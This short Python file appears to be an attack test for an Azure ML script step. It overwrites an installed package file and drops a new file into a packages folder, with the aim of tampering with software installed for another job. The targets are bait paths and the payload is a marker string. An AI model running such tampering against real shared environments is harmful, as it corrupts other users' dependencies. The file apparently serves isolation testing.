"""Changes the packages that were installed for another job."""

import os

from attack import BAIT, attack, every


def spoil(path):
    with open(path, "r+b") as stream:
        stream.write(b"hostile")
    return f"overwrote {path}"


def add(folder):
    with open(os.path.join(folder, "hostile-left.py"), "w") as stream:
        stream.write("hostile = True\n")
    return f"wrote into {folder}"


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    return every(lambda way: way(), [lambda: spoil(BAIT["package_file"]), lambda: add(BAIT["packages"])])
